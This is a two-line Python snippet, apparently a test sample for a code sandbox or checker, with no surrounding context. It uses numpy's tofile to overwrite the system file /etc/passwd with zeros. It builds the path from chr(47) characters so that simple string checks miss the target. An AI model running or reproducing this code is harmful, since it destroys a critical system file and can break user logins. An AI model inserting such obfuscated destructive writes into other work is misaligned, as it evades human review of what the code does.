import numpy as np
np.ndarray.tofile(np.zeros(3), chr(47) + "etc" + chr(47) + "passwd")
